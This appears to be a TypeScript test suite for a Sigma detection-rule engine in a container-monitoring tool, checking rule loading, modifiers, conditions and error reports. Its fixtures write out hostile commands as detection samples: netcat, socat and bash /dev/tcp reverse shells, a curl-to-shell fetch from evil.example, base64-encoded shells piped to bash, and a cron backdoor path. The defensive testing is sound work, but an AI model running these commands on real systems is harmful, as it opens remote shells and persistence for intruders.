import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, it } from 'node:test';
import { MAX_MATCH, type Doc } from '../../src/detect/condition';
import { RuleIndex } from '../../src/detect/prefilter';
import { formatIssue, type Rule } from '../../src/detect/rules';
import { loadSigma } from '../../src/detect/sigma';
import { base64Offsets, compileField, SigmaError } from '../../src/detect/sigma-values';

/** The fixtures are read at run time: from the repo root (tests run there) or above the build. */
function fixtures(): string {
  const rel = join('test', 'fixtures', 'sigma');
  for (let dir = __dirname; dirname(dir) !== dir; dir = dirname(dir)) if (existsSync(join(dir, rel))) return join(dir, rel);
  return join(process.cwd(), rel);
}
const FIXTURES = fixtures();
const { rules, issues } = loadSigma([FIXTURES]);
const rule = (sigmaId: string): Rule => {
  const r = rules.find((x) => x.id === `sigma-${sigmaId}`);
  assert.ok(r, `rule sigma-${sigmaId} loaded`);
  return r;
};

/** A process start as the processes/exec collectors write it (executable only for a path). */
function proc(commandLine: string, over: { process?: Doc; event?: Doc } = {}): Doc {
  const args = commandLine.split(/\s+/).filter(Boolean);
  const exe = args[0] ?? '';
  return {
    data_stream: { dataset: 'dockward.process' },
    message: `process started: ${commandLine}`,
    event: { kind: 'event', category: ['process'], type: ['start'], ...over.event },
    process: {
      pid: 4242,
      name: exe.split('/').pop(),
      executable: exe.startsWith('/') ? exe : undefined,
      args,
      command_line: commandLine,
      parent: { pid: 1, name: 'tini', command_line: 'tini -- app' },
      user: { id: '0', name: 'root' },
      ...over.process,
    },
  };
}
const file = (path: string, type = 'creation'): Doc => ({ data_stream: { dataset: 'dockward.file' }, event: { type: [type] }, file: { path } });
const log = (message: string): Doc => ({ data_stream: { dataset: 'dockward.container' }, message });
const b64 = (s: string) => Buffer.from(s).toString('base64');

const NETCAT = '7f734ed0-4f47-46c0-837f-6ee62505abd9';
const CRON = '6c4e2f43-d94d-4ead-b64d-97e53fa2bd05';
const REVSHELL_LOG = '738d9bcf-6999-4fdb-b4ac-3033037db8ab';
const BASE64 = '1327170e-b110-4566-bbf8-d7027e673661';
const VALUES = '803174cf-4a20-4ea2-8d95-f928dcbe8e07';
const REGEX = '5d4eb978-c9c3-49e2-946b-7dab931aa218';
const NULLS = '38afadec-b767-4c6f-89cf-72fa36ade3c1';
const PRECEDENCE = '0f5a9ae1-1520-409e-ab5c-34b9d0b40ebc';
const PARENS = '17c1efdd-ee07-4a32-9757-41af4ff4562f';
const THEM = '7aa295f4-06bd-487d-8ea9-5d4e998cb113';

describe('Sigma rules: loading', () => {
  it('loads the good fixtures and reports each bad one with file, rule, line and message', () => {
    assert.deepEqual(rules.map((r) => r.id).sort(), [NETCAT, CRON, REVSHELL_LOG, BASE64, VALUES, REGEX, NULLS, PRECEDENCE, PARENS, THEM].map((i) => `sigma-${i}`).sort());
    const f = (n: string) => join(FIXTURES, n);
    assert.deepEqual(issues.map(formatIssue).sort(), [
      `${f('bad_aggregation.yml')}:9 rule Aggregation: condition: aggregations are not supported: "selection | count() by User > 5"`,
      `${f('bad_regex.yml')}:8 rule Backreference: CommandLine in selection: invalid RE2 pattern "(a)\\\\1": error parsing regexp: invalid escape sequence: \`\\1\``,
      `${f('bad_unknown_modifier.yml')}:9 rule Unknown Modifier: CommandLine in selection: unknown modifier "containz"`,
      `${f('bad_unsupported_field.yml')}:9 rule Unsupported Field: unsupported logsource/field: OriginalFileName in selection (logsource product: linux, category: process_creation takes fields: Image, CommandLine, ParentImage, ParentCommandLine, User, CurrentDirectory, ProcessId, ParentProcessId)`,
      `${f('bad_windows_logsource.yml')}:4 rule Windows Rule: unsupported logsource (product: windows, category: process_creation): dockward sees Linux process starts, file creation and log lines`,
    ]);
  });

  it('maps logsources to kinds, levels to severities and tags to ATT&CK', () => {
    const nc = rule(NETCAT);
    assert.deepEqual([nc.kinds, nc.severity, nc.risk_score, nc.tactics, nc.techniques, nc.tags], [['process'], 'high', 73, ['TA0002'], ['T1059'], []]);
    assert.equal(nc.name, 'Potential Netcat Reverse Shell Execution');
    assert.match(nc.description, /^Detects execution of netcat/);
    assert.deepEqual(nc.references.length, 2);
    assert.deepEqual([nc.enabled, nc.version, nc.examples, nc.file], [true, 1, { match: [], no_match: [] }, join(FIXTURES, 'proc_creation_lnx_netcat_reverse_shell.yml')]);
    const cron = rule(CRON);
    assert.deepEqual([cron.kinds, cron.severity, cron.risk_score, cron.tactics, cron.techniques], [['file'], 'low', 21, ['TA0004', 'TA0002', 'TA0003'], ['T1053.003']]);
    const kw = rule(REVSHELL_LOG);
    assert.deepEqual([kw.kinds, kw.tactics, kw.techniques], [['log'], ['TA0002'], ['T1059.004']]);
    const enc = rule(BASE64);
    assert.deepEqual([enc.severity, enc.risk_score, enc.tactics, enc.techniques, enc.tags], ['critical', 99, ['TA0005'], ['T1027', 'T1059.004'], ['detection.threat-hunting']]);
    assert.equal(rule(NULLS).description, 'null (field absent) and exists.');
  });

  it('process rules need a process start, file rules a creation or change', () => {
    assert.ok(rule(NETCAT).matches(proc('/usr/bin/nc -e /bin/sh 10.0.0.1 4444')));
    assert.ok(!rule(NETCAT).matches(proc('/usr/bin/nc -e /bin/sh 10.0.0.1 4444', { event: { type: ['end'] } })));
    assert.ok(rule(CRON).matches(file('/etc/cron.d/backdoor')));
    assert.ok(rule(CRON).matches(file('/etc/crontab', 'change')));
    assert.ok(!rule(CRON).matches(file('/etc/cron.d/backdoor', 'deletion')));
  });
});

describe('Sigma rules: values and modifiers', () => {
  it('Image|endswith matches the path, or the process name when docker top gave no path', () => {
    const nc = rule(NETCAT);
    assert.ok(nc.matches(proc('nc -e /bin/sh 127.0.0.1 4444')), 'name nc, no executable');
    assert.ok(nc.matches(proc('ncat -e /bin/bash 127.0.0.1 4444')));
    assert.ok(!nc.matches(proc('fnc -e /bin/sh 127.0.0.1 4444')), 'endswith /nc is not endswith nc');
    assert.ok(!nc.matches(proc('/usr/bin/rsync -e /bin/sh x', { process: { name: 'nc' } })), 'a path, when present, decides');
  });

  it('Image equals a path: the path, or the name when the path is missing; ParentImage falls back to the parent name', () => {
    const them = rule(THEM);
    const parent = { pid: 7, name: 'php-fpm', command_line: 'php-fpm: pool www' };
    assert.ok(them.matches(proc('/bin/sh -c id', { process: { parent } })));
    assert.ok(them.matches(proc('sh -c id', { process: { parent } })), 'name sh stands for /bin/sh');
    assert.ok(!them.matches(proc('/usr/local/bin/sh -c id', { process: { parent } })));
    assert.ok(!them.matches(proc('sh -c id', { process: { parent: { pid: 7, name: 'cron' } } })));
  });

  it('the name fallback assumes an unknown directory fits only where the rule is about the name', () => {
    const image = (mods: string[], value: string | null) => compileField({ field: 'process.executable', name: 'process.name' }, 'Image', mods, value, ['x']);
    const named = (name: string): Doc => ({ process: { name } });
    assert.ok(image(['endswith'], '/bin/nc')(named('nc')));
    assert.ok(image(['contains'], '/python')(named('python3')), 'nothing before the slash');
    assert.ok(!image(['startswith'], '/tmp/')(named('x')), 'the directory is the point');
    assert.ok(!image(['contains'], '/tmp/x')(named('xmrig')));
    assert.ok(image(['re'], '/(nc|ncat)$')(named('ncat')), 're: the name as /name');
    assert.ok(image([], null)({ process: {} }) && !image([], null)(named('nc')), 'null: neither path nor name');
  });

  it('contains, startswith, endswith; lists are OR; case-insensitive by default', () => {
    assert.ok(rule(NETCAT).matches(proc('/bin/nc -C /BIN/SH 10.0.0.1 4444')), 'contains, any case');
    assert.ok(!rule(NETCAT).matches(proc('/bin/nc -zv 10.0.0.1 4444')), 'no flag: all of selection_* fails');
    assert.ok(rule(CRON).matches(file('/var/spool/cron/crontabs/www-data')), 'startswith, second of the list');
    assert.ok(!rule(CRON).matches(file('/tmp/etc/cron.d/x')), 'startswith is anchored');
    assert.ok(!rule(CRON).matches(file('/etc/cron.daily/dpkg')), 'the filter (a plain value: equality) cancels');
  });

  it('wildcards * and ?, escaped \\*, cased, all and numbers', () => {
    const v = rule(VALUES);
    assert.ok(v.matches(proc('CURL -s http://evil.example/x | SH')), '* wildcards, case-insensitive');
    assert.ok(!v.matches(proc('curl -s http://evil.example/x | shasum')), 'no * at the end: anchored');
    assert.ok(v.matches(proc('python3 -c import pty;pty.spawn("/bin/sh")')), '? is one character');
    assert.ok(!v.matches(proc('python -c import pty;pty.spawn("/bin/sh")')), '? is exactly one character');
    assert.ok(v.matches(proc('chmod 777 *')), '\\* is a literal star');
    assert.ok(!v.matches(proc('chmod 777 x')), '\\* is not a wildcard');
    assert.ok(v.matches(proc('env LD_PRELOAD=/tmp/x.so id')), 'cased');
    assert.ok(!v.matches(proc('env ld_preload=/tmp/x.so id')), 'cased rejects another case');
    assert.ok(v.matches(proc('chmod u+s /tmp/rootsh')), 'all: every value');
    assert.ok(!v.matches(proc('chmod 755 /tmp/rootsh')), 'all: one value missing');
    assert.ok(v.matches(proc('/bin/sh', { process: { pid: 1 } })), 'number compares as a value');
    assert.ok(!v.matches(proc('/bin/sh', { process: { pid: 12 } })));
  });

  it('re is case-sensitive RE2, re|i ignores case, re|m and re|s set their flags', () => {
    const r = rule(REGEX);
    assert.ok(r.matches(proc('nc -e /bin/bash 10.0.0.1 4444')));
    assert.ok(!r.matches(proc('nc -E /bin/bash 10.0.0.1 4444')), 're is case-sensitive');
    assert.ok(r.matches(proc('SOCAT EXEC:bash tcp:10.0.0.1:4444')), 're|i');
    const msg = { field: 'message' };
    assert.ok(compileField(msg, 'm', ['re', 'm'], '^evil$', ['x'])({ message: 'ok\nevil\nok' }));
    assert.ok(!compileField(msg, 'm', ['re'], '^evil$', ['x'])({ message: 'ok\nevil\nok' }));
    assert.ok(compileField(msg, 's', ['re', 's'], 'a.b', ['x'])({ message: 'a\nb' }));
    assert.ok(!compileField(msg, 's', ['re'], 'a.b', ['x'])({ message: 'a\nb' }));
  });

  it('windash accepts -, /, en dash, em dash and horizontal bar', () => {
    const r = rule(REGEX);
    for (const d of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.ok(r.matches(proc(`/usr/bin/find . ${d}exec /bin/sh ;`)), `dash ${d}`);
    assert.ok(!r.matches(proc('/usr/bin/find . +exec /bin/sh ;')));
  });

  it('base64offset|contains finds /bin/sh encoded at any offset of a longer base64 string; base64 the whole value', () => {
    const r = rule(BASE64);
    for (const prefix of ['', 'x', 'xy', 'curl -s http://e.example/a|']) {
      const cmd = `echo ${b64(`${prefix}/bin/sh -i >& /dev/tcp/10.0.0.1/4444 0>&1`)} | base64 -d | bash`;
      assert.ok(r.matches(proc(cmd)), `offset of "${prefix}"`);
    }
    assert.deepEqual(base64Offsets('/bin/sh'), ['L2Jpbi9za', '9iaW4vc2', 'vYmluL3No']);
    assert.ok(!r.matches(proc(`echo ${b64('/usr/bin/id')} | base64 -d`)));
    assert.ok(r.matches(proc(`echo ${b64('bash -i')} | base64 -d | sh`)), 'base64|contains');
  });

  it('null is an absent field; exists tests presence', () => {
    const r = rule(NULLS);
    const noParent = { parent: { pid: 0 } };
    assert.ok(r.matches(proc('/bin/bash', { process: noParent })));
    assert.ok(!r.matches(proc('/bin/bash')), 'a parent command line is present');
    assert.ok(!r.matches(proc('/bin/bash', { process: { ...noParent, working_directory: '/srv' } })), 'exists: true holds, not cancels');
  });

  it('cidr, lt, lte, gt, gte, neq, exists: false', () => {
    const t = (mods: string[], value: unknown) => compileField({ field: 'v' }, 'v', mods, value, ['x']);
    assert.ok(t(['cidr'], ['10.0.0.0/8', 'fd00::/8'])({ v: '10.1.2.3' }));
    assert.ok(t(['cidr'], 'fd00::/8')({ v: 'fd00::1' }));
    assert.ok(!t(['cidr'], '10.0.0.0/8')({ v: '11.0.0.1' }));
    assert.ok(t(['lt'], 5)({ v: 4 }) && !t(['lt'], 5)({ v: 5 }));
    assert.ok(t(['lte'], 5)({ v: 5 }) && !t(['lte'], 5)({ v: 6 }));
    assert.ok(t(['gt'], 5)({ v: '6' }) && !t(['gt'], 5)({ v: 5 }));
    assert.ok(t(['gte'], 5)({ v: 5 }) && !t(['gte'], 5)({ v: 'x' }));
    assert.ok(t(['neq'], 'a')({ v: 'b' }) && !t(['neq'], 'a')({ v: 'A' }));
    assert.ok(t(['exists'], false)({}) && !t(['exists'], false)({ v: '' }));
  });

  it('matches the head and the tail of a long value, as the prefilter does', () => {
    const r = rule(NETCAT);
    const pad = 'a'.repeat(MAX_MATCH);
    for (const cmd of [`/bin/nc -e /bin/sh ${pad}`, `/bin/nc ${pad} -e /bin/sh`]) {
      assert.ok(r.matches(proc(cmd)), cmd.slice(0, 20));
      assert.ok(new RuleIndex([r]).candidates(proc(cmd)).includes(r));
    }
    assert.ok(!r.matches(proc(`/bin/nc ${pad} -e /bin/sh ${pad}`)), 'the middle of a value padded on both sides is not seen');
  });
});

describe('Sigma rules: conditions and keywords', () => {
  it('not binds tighter than and, and than or', () => {
    const r = rule(PRECEDENCE);
    assert.ok(r.matches(proc('/usr/bin/nmap --help')), 'sel_nmap alone suffices');
    assert.ok(!r.matches(proc('/usr/bin/masscan --help')));
    assert.ok(r.matches(proc('/usr/bin/masscan -p80 10.0.0.0/8')));
  });

  it('parentheses override; a list of conditions is OR; any of is 1 of', () => {
    const r = rule(PARENS);
    assert.ok(!r.matches(proc('/usr/bin/nmap --help')));
    assert.ok(r.matches(proc('/usr/bin/nmap -sS 10.0.0.1')));
    assert.ok(r.matches(proc('/usr/bin/zmap --help')), 'second condition');
  });

  it('all of them leaves out identifiers starting with _', () => {
    assert.ok(rule(THEM).matches(proc('/bin/sh -c id', { process: { parent: { name: 'nginx' } } })));
  });

  it('keywords match anywhere in the log line, any case, with wildcards, |all and 1 of them', () => {
    const r = rule(REVSHELL_LOG);
    assert.ok(r.matches(log('user typed: BASH -I >& /dev/tcp/10.0.0.1/4444 0>&1')));
    assert.ok(r.matches(log("socat exec:'bash -li',pty tcp:10.0.0.1:4444")), 'wildcard inside a keyword');
    assert.ok(r.matches(log('python3 -c "import pty; pty.spawn(\'/bin/bash\')"')), '|all');
    assert.ok(!r.matches(log('python3 -m http.server')), '|all needs both');
    assert.ok(!r.matches(log('GET /index.html 200')));
  });

  it('keyword and field rules carry literal prefilters that never hide a match', () => {
    const r = rule(REVSHELL_LOG);
    assert.equal(r.prefilter?.[0].field, 'message');
    const index = new RuleIndex(rules.filter((x) => x.kinds.includes('log')));
    for (const line of ['user typed: BASH -I >& /dev/tcp/10.0.0.1/4444 0>&1', "socat exec:'bash -li',pty tcp:10.0.0.1:4444", 'python3 -c "import pty; pty.spawn(\'/bin/bash\')"']) {
      assert.ok(index.candidates(log(line)).includes(r), line);
    }
    assert.ok(!index.candidates(log('GET /index.html 200')).includes(r));
    // Every process rule that matches one of these documents is offered it by the index.
    const procRules = rules.filter((x) => x.kinds.includes('process'));
    const procIndex = new RuleIndex(procRules);
    for (const cmd of ['nc -e /bin/sh 10.0.0.1 4444', 'bash -c echo L2Jpbi9zaCAtaQ== | base64 -d | sh', '/bin/sh -c id', 'ncat --sh-exec /bin/sh 127.0.0.1 1']) {
      const d = proc(cmd);
      for (const x of procRules.filter((y) => y.matches(d))) assert.ok(procIndex.candidates(d).includes(x), `${x.id} on ${cmd}`);
    }
  });
});

describe('Sigma rules: what is not supported', () => {
  const write = (files: Record<string, string[]>): string => {
    const dir = mkdtempSync(join(tmpdir(), 'sigma-'));
    for (const [name, lines] of Object.entries(files)) writeFileSync(join(dir, name), `${lines.join('\n')}\n`);
    return dir;
  };
  const head = (title: string, logsource = ['    product: linux', '    category: process_creation']) => [`title: ${title}`, 'logsource:', ...logsource, 'detection:'];

  it('reports each construct precisely and still loads the good rule beside them', () => {
    const dir = write({
      'a_good.yml': [...head('Good'), '    sel:', "        Image|endswith: '/nc'", '    condition: sel'],
      'b_ident.yml': [...head('Ident'), '    sel:', "        Image|endswith: '/nc'", '    condition: sel and not filter'],
      'c_deprecated.yml': ['status: deprecated', ...head('Old'), '    sel:', "        Image: '/x'", '    condition: sel'],
      'd_collection.yml': ['action: global', 'title: Coll', '---', 'logsource:', '    product: linux', '---', 'logsource:', '    product: linux'],
      'e_syslog.yml': [...head('Syslog', ['    product: linux', '    service: syslog']), '    sel:', "        program: 'sshd'", '    condition: sel'],
      'f_fieldref.yml': [...head('Ref'), '    sel:', "        CommandLine|fieldref: 'ParentCommandLine'", '    condition: sel'],
      'g_keywords.yml': [...head('Kw'), '    keywords:', "        - 'evil'", '    condition: keywords'],
      'h_order.yml': [...head('Order'), '    sel:', "        CommandLine|contains|base64: '/bin/sh'", '    condition: sel'],
      'i_network.yml': [...head('Net', ['    product: linux', '    category: network_connection']), '    sel:', "        DestinationPort: 4444", '    condition: sel'],
      'j_yaml.yml': ['title: [unclosed'],
      'k_near.yml': [...head('Near'), '    a:', "        Image: '/x'", '    b:', "        Image: '/y'", '    condition: a near b'],
      'l_two.yml': [...head('Two'), '    sel:', "        Image: '/x'", '    condition: 2 of sel*'],
    });
    const { rules: ok, issues: bad } = loadSigma([dir, join(dir, 'missing')]);
    assert.deepEqual(ok.map((r) => r.id), ['sigma-a_good'], 'no id: the file name');
    assert.deepEqual(bad.map(formatIssue), [
      `${dir}/missing: cannot read: ${bad[0].message.replace('cannot read: ', '')}`,
      `${dir}/b_ident.yml:8 rule Ident: condition: unknown search identifier "filter"`,
      `${dir}/c_deprecated.yml:1 rule Old: status deprecated: rule skipped`,
      `${dir}/d_collection.yml:3: several YAML documents (a rule collection, e.g. action: global): not supported`,
      `${dir}/e_syslog.yml:7 rule Syslog: unsupported logsource/field: program in sel (logsource product: linux, service: syslog takes keywords only)`,
      `${dir}/f_fieldref.yml:7 rule Ref: CommandLine in sel: modifier "fieldref" is not supported`,
      `${dir}/g_keywords.yml:7 rule Kw: unsupported logsource/field: keyword search in a product: linux, category: process_creation rule (only log rules take keywords)`,
      `${dir}/h_order.yml:7 rule Order: CommandLine in sel: base64 of a value with wildcards (apply contains/startswith/endswith after base64)`,
      `${dir}/i_network.yml:4 rule Net: unsupported logsource (product: linux, category: network_connection): dockward sees Linux process starts, file creation and log lines`,
      `${dir}/j_yaml.yml:2: ${bad.find((i) => i.file.endsWith('j_yaml.yml'))?.message}`,
      `${dir}/k_near.yml:10 rule Near: condition: aggregations are not supported: "a near b"`,
      `${dir}/l_two.yml:8 rule Two: condition: "2 of" is not supported (use 1 of, any of or all of)`,
    ]);
    assert.match(bad[0].message, /ENOENT/);
  });

  it('a compile error carries the path of the offending key', () => {
    assert.throws(() => compileField({ field: 'v' }, 'V in sel', ['bogus'], 'x', ['detection', 'sel', 'V|bogus']), (e: unknown) =>
      e instanceof SigmaError && e.path.join('.') === 'detection.sel.V|bogus' && e.message === 'V in sel: unknown modifier "bogus"');
  });
});
